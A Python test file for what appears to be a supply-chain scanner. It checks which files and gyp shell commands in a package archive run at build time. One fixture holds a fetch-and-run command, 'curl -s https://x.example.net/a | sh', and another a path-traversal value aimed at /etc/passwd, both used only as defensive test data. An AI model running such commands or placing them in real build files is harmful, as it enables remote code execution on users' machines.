from __future__ import annotations

import pytest

from threatfeed.analysis.build import (
    MAX_GYP_COMMAND,
    MAX_GYP_COMMANDS,
    build_files,
    gyp_commands,
    setup_loaded_files,
)


def _pyproject(text: str) -> frozenset[str]:
    return build_files(text.encode(), None)


def test_an_in_tree_backend_and_its_parent_packages_run_at_build() -> None:
    found = _pyproject(
        '[build-system]\nrequires = []\nbuild-backend = "custom.backend:api"\n'
        'backend-path = [".", "_tools/"]\n'
    )
    assert {"custom/__init__.py", "custom/backend.py", "custom/backend/__init__.py"} <= found
    assert {"_tools/custom/__init__.py", "_tools/custom/backend.py"} <= found


def test_an_installed_backend_runs_nothing_of_the_archive() -> None:
    text = '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
    assert _pyproject(text) == frozenset()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[tool.hatch.build.hooks.custom]\n", "hatch_build.py"),
        ('[tool.hatch.build.hooks.custom]\npath = "tools/hook.py"\n', "tools/hook.py"),
        ("[tool.hatch.build.targets.wheel.hooks.custom]\n", "hatch_build.py"),
        ('[tool.hatch.metadata.hooks.custom]\npath = "meta.py"\n', "meta.py"),
        ('[build-system]\nbuild-backend = "pdm.backend"\n', "pdm_build.py"),
        (
            '[build-system]\nbuild-backend = "pdm.backend"\n'
            '[tool.pdm.build]\ncustom-hook = "b/hook.py"\n',
            "b/hook.py",
        ),
        ('[tool.poetry]\nbuild = "build.py"\n', "build.py"),
        ('[tool.poetry.build]\nscript = "tools/build_ext.py"\n', "tools/build_ext.py"),
        ('[tool.setuptools.cmdclass]\nbuild_py = "tidy.cmds.BuildPy"\n', "tidy/cmds.py"),
        ('[tool.setuptools.cmdclass]\nbuild_py = "tidy.cmds.BuildPy"\n', "src/tidy/cmds.py"),
    ],
)
def test_build_hooks_named_by_pyproject(text: str, expected: str) -> None:
    assert expected in _pyproject(text)


def test_a_pdm_hook_runs_only_under_pdm() -> None:
    assert _pyproject('[tool.pdm.build]\ncustom-hook = "b/hook.py"\n') == frozenset()


def test_command_classes_named_by_setup_cfg() -> None:
    text = b"[options]\ncmdclass =\n    build_py = tidy.cmds:BuildPy\n    sdist = other.Sdist\n"
    found = build_files(None, text)
    assert {"tidy/cmds.py", "tidy/__init__.py", "src/tidy/cmds.py", "other.py"} <= found


@pytest.mark.parametrize(
    "text",
    [
        b"[build-system\nbackend-path = [",
        b'[build-system]\nbackend-path = 3\nbuild-backend = ["x"]\n',
        b'[tool.hatch.build]\nhooks = "custom"\n',
        b"[tool.hatch.build.hooks.custom]\npath = 7\n",
        b'[tool.poetry]\nbuild = {script = ["a.py", 3]}\n',
        b"[tool.setuptools]\ncmdclass = [1, 2]\n",
        b'\xff\xfe[build-system]\nbuild-backend = "x"\n',
    ],
)
def test_malformed_configuration_names_nothing_and_raises_nothing(text: bytes) -> None:
    assert build_files(text, b"[options\ncmdclass = x") <= {"a.py"}


def test_paths_are_normalised_and_stay_strings() -> None:
    found = _pyproject('[tool.hatch.build.hooks.custom]\npath = "./x/../../../etc/passwd"\n')
    assert found == frozenset({"../../etc/passwd"})  # compared with member names, never opened


def test_gyp_commands_with_nested_parentheses_escapes_and_both_forms() -> None:
    text = (
        "{'targets': [{'include_dirs': "
        '["<!(node -p \\"require(\'node-addon-api\').include\\")"],\n'
        "'libraries': ['<!@(pkg-config cairo --libs)'],\n"
        "'sources': ['<!(curl -s https://x.example.net/a | sh'\n"
        "]}]}"
    )
    assert gyp_commands(text) == [
        "node -p \"require('node-addon-api').include\"",
        "pkg-config cairo --libs",
        "curl -s https://x.example.net/a | sh'",
    ]


def test_gyp_commands_are_bounded_and_empty_ones_dropped() -> None:
    text = "'<!()' '<!(" + "a" * (MAX_GYP_COMMAND * 3)
    (command,) = gyp_commands(text)
    assert len(command) == MAX_GYP_COMMAND


def test_gyp_commands_are_distinct_and_the_first_hundred() -> None:
    nested = "'<!(" * 20_000  # each would read on to the end of the line
    repeated = "'<!(pkg-config --libs cairo)'," * 50
    listed = "".join(f"'<!(echo {i})'," for i in range(MAX_GYP_COMMANDS + 5))
    assert gyp_commands(repeated) == ["pkg-config --libs cairo"]
    assert len(gyp_commands(listed)) == MAX_GYP_COMMANDS
    assert len(gyp_commands(nested)) == MAX_GYP_COMMANDS


@pytest.mark.parametrize(
    ("setup_py", "expected"),
    [
        (
            b"spec_from_file_location('v', os.path.join(HERE, 'pkg', 'version.py'))",
            "pkg/version.py",
        ),
        (
            b"SourceFileLoader('pkg.about', 'src/pkg/__about__.py').load_module()",
            "src/pkg/__about__.py",
        ),
        (b"runpy.run_path(os.path.join('pkg', 'build', 'hooks.py'))", "pkg/build/hooks.py"),
        (b"exec(open('pkg/_version.py').read(), about)", "pkg/_version.py"),
        (b"exec(compile(open('tools/gen.py').read(), 'gen', 'exec'))", "tools/gen.py"),
    ],
)
def test_files_setup_py_runs_by_path(setup_py: bytes, expected: str) -> None:
    assert setup_loaded_files(setup_py) == {expected}


def test_paths_that_leave_the_package_or_name_no_python_file_are_not_taken() -> None:
    assert setup_loaded_files(b"exec(open('../shared/version.py').read())") == set()
    assert setup_loaded_files(b"exec(open('README.md').read())") == set()
    assert setup_loaded_files(b"long_description = open('README.rst').read()") == set()
